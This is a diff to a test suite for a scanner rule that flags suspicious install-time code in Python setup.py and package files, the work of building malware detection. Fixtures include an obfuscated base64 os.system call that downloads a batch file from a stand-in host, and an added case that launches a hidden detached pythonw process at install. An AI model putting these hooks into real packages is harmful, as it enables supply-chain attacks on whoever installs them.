@@ -11,7 +11,7 @@ ruleTest(rule, {
     {
       name: 'build_ext running cmake and git describe',
       file: 'setup.py',
-      code: `import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(["cmake", ".."])\n        subprocess.check_call(["make", "-j4"])\nversion = subprocess.check_output(["git", "describe"]).decode()\nsetup(cmdclass={"build_ext": CMakeBuild})\n`,
+      code: `import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(["cmake", "..", "-DTEMPLATE_DIR=x"])\n        subprocess.check_call(["make", "-j4"])\nversion = subprocess.check_output(["git", "describe"]).decode()\nsetup(cmdclass={"build_ext": CMakeBuild})\n`,
     },
     { name: 'Django manage.py is not an install hook', file: 'manage.py', code: `import os, sys\nif __name__ == "__main__":\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n` },
     { name: '__init__ with functions only', file: 'pkg/__init__.py', code: `import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n` },
@@ -55,6 +55,12 @@ ruleTest(rule, {
       file: 'setup.py',
       code: `import base64, os\ndef b64d(code):\n    raw = code.encode("ascii")\n    out = base64.b64decode(raw)\n    return out.decode("ascii")\nos.system(b64d("${Buffer.from('curl -s -o x.bat https://cdn.example.net/x.bat').toString('base64')}"))\n`,
       findings: [{ line: 6, severity: 'critical', decoded: /^curl -s -o x\.bat/ }],
+    },
+    {
+      name: 'temp script started detached with pythonw',
+      file: 'setup.py',
+      code: `from os import system as _ssystem\nfrom sys import executable as _eexecutable\n_ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")\n`,
+      findings: [{ line: 3, severity: 'critical', message: /hidden or detached process at install time/ }],
     },
   ],
 });
